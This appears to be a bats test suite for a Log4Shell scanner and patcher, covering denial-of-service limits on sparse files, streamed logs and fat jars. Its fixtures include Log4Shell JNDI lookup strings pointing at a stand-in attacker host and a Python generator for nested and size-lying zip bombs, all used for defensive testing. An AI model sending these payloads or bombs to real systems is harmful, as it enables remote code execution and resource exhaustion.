#!/usr/bin/env bats
# dos.bats - denial of service: inputs built to cost time, memory or disk
# out of proportion to their size.  No test measures time: each asserts an
# outcome (a warning, a finding, a peak RSS) under `timeout`, so a hang
# fails instead of blocking the suite.

load helpers

setup_file() {
    export D="$BATS_FILE_TMPDIR/dos"
    mkdir -p "$D"
}

# nested_bomb OUT LEAF_BYTES FAN LEVELS [lie]: zips of zips, FAN members
# per level; leaves are LEAF_BYTES of zeros named *.log (deflated ~1030:1).
# With "lie", each leaf claims 1000 bytes in its local and central headers.
nested_bomb() {
    python3 - "$@" <<'X'
import io, struct, sys, zipfile
out, leaf, fan, levels = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
lie = len(sys.argv) > 5
def z(members, patch=False):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in members:
            zf.writestr(name, data)
    d = bytearray(b.getvalue())
    for sig, off in ((b'PK\x03\x04', 22), (b'PK\x01\x02', 24)):
        i = d.find(sig) if patch else -1
        while i >= 0:
            d[i + off:i + off + 4] = struct.pack('<I', 1000)
            i = d.find(sig, i + 4)
    return bytes(d)
cur = z([('app%d.log' % i, b'\0' * leaf) for i in range(fan)], lie)
for lv in range(1, levels):
    cur = z([('n%d_%d.zip' % (lv, i), cur) for i in range(fan)])
open(out, 'wb').write(cur)
X
}

@test "dos: a sparse 1 TB log obeys --max-scantime, other files still reported" {
    mkdir -p "$D/sparse"
    truncate -s 1T "$D/sparse/huge.log"
    printf 'GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1\n' > "$D/sparse/attack.log"
    run timeout 60 "$KENSA" logs --json --no-summary --threads 1 \
        --max-scantime 2000 "$D/sparse/huge.log" "$D/sparse/attack.log"
    rm -f "$D/sparse/huge.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_any '.event.kind=="event" and (.kensa.path|endswith("huge.log"))
        and (.error.message|test("max-scantime.*rest of file not scanned"))'
    echo "$output" | jq_alerts '.kensa.verdict=="attack" and (.kensa.path|endswith("attack.log"))'
}

@test "dos: a payload followed by 1 TB without a newline obeys --max-scantime" {
    mkdir -p "$D/sparse2"
    printf 'GET /?q=${jndi:ldap://x.evil.example/a}' > "$D/sparse2/tail.log"
    truncate -s 1T "$D/sparse2/tail.log"
    run timeout 60 "$KENSA" logs --json --no-summary --threads 1 \
        --max-scantime 2000 "$D/sparse2/tail.log"
    rm -f "$D/sparse2/tail.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts '.kensa.verdict=="attack" and .kensa.line==1'
    echo "$output" | jq_any '.event.kind=="event" and (.error.message|test("max-scantime"))'
}

@test "dos: a 10 KB nested zip bomb of *.log leaves is refused by ratio, not by time" {
    nested_bomb "$D/nested.zip" $((16 << 20)) 12 3
    [ "$(stat -c %s "$D/nested.zip")" -lt 65536 ]
    for cmd in scan logs; do
        run timeout 60 "$KENSA" $cmd --threads 1 --no-summary --max-scantime 30000 "$D/nested.zip"
        [ "$status" -eq 0 ]
        [[ "$output" != *"max-scantime"* ]]
        [[ "$output" == *"app0.log: compressed more than 1000:1 (--max-ratio), not scanned"* ]]
    done
}

@test "dos: a nested bomb whose sizes lie costs --max-scansize in total" {
    nested_bomb "$D/lying.zip" $((16 << 20)) 12 3 lie
    run timeout 60 "$KENSA" scan --threads 1 --no-summary --max-scantime 30000 "$D/lying.zip"
    [ "$status" -eq 0 ]
    [[ "$output" != *"max-scantime"* ]]
    [[ "$output" == *"compressed more than 1000:1"* ]]
    [[ "$output" == *"more than --max-scansize="*"rest of file not scanned"* ]]
}

# padded_jar SRC OUT MIB: SRC's entries plus MIB MiB of stored text (a
# resource bundle: deflates ~100:1, below --max-ratio).
padded_jar() {
    python3 - "$@" <<'X'
import sys, zipfile
src, out, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
line = b''.join(b'%08d INFO padding line for a large resource bundle\n' % i for i in range(500))
with zipfile.ZipFile(src) as a, zipfile.ZipFile(out, 'w') as b:
    for i in a.infolist():
        b.writestr(i, a.read(i), zipfile.ZIP_DEFLATED)
    for k in range(mib // 8):
        b.writestr('res/blob%d.dat' % k, (line * 300)[:8 << 20], zipfile.ZIP_STORED)
X
}

# wrap OUT NAME IN: a zip holding IN (deflated) as NAME, after a manifest.
wrap() {
    python3 - "$@" <<'X'
import sys, zipfile
out, name, src = sys.argv[1:4]
with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('META-INF/MANIFEST.MF', b'Manifest-Version: 1.0\n')
    z.write(src, name)
X
}

# fix_rss FILE: fix FILE (backups in $D/bk), print the peak RSS in KiB
fix_rss() {
    mkdir -p "$D/bk"
    /usr/bin/time -o "$D/rss" -f %M timeout 120 "$KENSA" log4j -q --threads 1 \
        --fix --backup-dir "$D/bk" "$1" >/dev/null || true
    tail -1 "$D/rss"
}

@test "dos: --fix of a fat jar holding a 128 MiB log4j-core stays under 64 MiB" {
    make_fixtures
    padded_jar "$FX/plain/log4j-core-2.14.1.jar" "$D/core.jar" 128
    wrap "$D/fat.jar" BOOT-INF/lib/log4j-core-2.14.1.jar "$D/core.jar"
    cp "$D/fat.jar" "$D/fat.orig"
    rss=$(fix_rss "$D/fat.jar")
    echo "peak RSS $rss KiB"
    [ "$rss" -lt 65536 ]
    python3 "$KENSA_TOP/tests/gen/zipcmp.py" "$D/fat.orig" "$D/fat.jar"
    run k log4j --json "$D/fat.jar"
    echo "$output" | jq_alerts '.kensa.verdict=="mitigated"'
}

@test "dos: --fix of a war > 40 MiB jar > 40 MiB log4j-core stays under 64 MiB" {
    make_fixtures
    padded_jar "$FX/plain/log4j-core-2.14.1.jar" "$D/core40.jar" 40
    padded_jar "$D/core40.jar" "$D/app40.jar" 0
    python3 - "$D/app40.jar" "$D/core40.jar" <<'X'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'a') as z:
    z.write(sys.argv[2], 'BOOT-INF/lib/log4j-core-2.14.1.jar', zipfile.ZIP_STORED)
X
    wrap "$D/app.war" WEB-INF/lib/app.jar "$D/app40.jar"
    cp "$D/app.war" "$D/app.orig"
    rss=$(fix_rss "$D/app.war")
    echo "peak RSS $rss KiB"
    [ "$rss" -lt 65536 ]
    python3 "$KENSA_TOP/tests/gen/zipcmp.py" "$D/app.orig" "$D/app.war"
    run k log4j --json "$D/app.war"
    echo "$output" | jq_alerts '.kensa.verdict=="mitigated"'
}

@test "dos: 200 MB of log text on stdin is streamed, nothing spilled to TMPDIR" {
    command -v strace >/dev/null || skip "strace missing (scripts/install-deps.sh)"
    mkdir -p "$D/tmp"
    python3 -c '
import sys
line = b"10.0.0.1 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n"
sys.stdout.buffer.write(line * (200 * 1024 * 1024 // len(line)))
sys.stdout.buffer.write(b"203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] \"GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1\" 200 5\n")
' > "$D/big.txt"
    n=$(wc -l < "$D/big.txt")
    # LeakSanitizer cannot run under ptrace (strace): off for this run
    run bash -c "cat '$D/big.txt' | TMPDIR='$D/tmp' ASAN_OPTIONS='${ASAN_OPTIONS:-}:detect_leaks=0' timeout 60 strace -f -qq \
        -e trace=openat -o '$D/strace' '$KENSA' logs --json --no-summary --threads 1 -"
    rm -f "$D/big.txt"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts ".kensa.verdict==\"attack\" and .kensa.path==\"(stdin)\" and .kensa.line==$n"
    grep -q 'openat(' "$D/strace"                 # strace saw the opens
    [ "$(grep -c O_TMPFILE "$D/strace")" -eq 0 ]   # and none was a spill
    [ -z "$(ls -A "$D/tmp")" ]
}

@test "dos: compressed stdin is spilled at most --max-scansize, with a warning" {
    head -c 3000000 /dev/urandom | base64 -w 100 | gzip -c > "$D/in.gz"
    [ "$(stat -c %s "$D/in.gz")" -gt 2000000 ]
    run bash -c "cat '$D/in.gz' | timeout 60 '$KENSA' logs --json --no-summary --threads 1 --max-scansize 1M -"
    echo "$output" | jq_any '.event.kind=="event" and .kensa.path=="(stdin)"
        and (.error.message|test("max-scansize=1048576 bytes of input; rest of file not scanned"))'
}
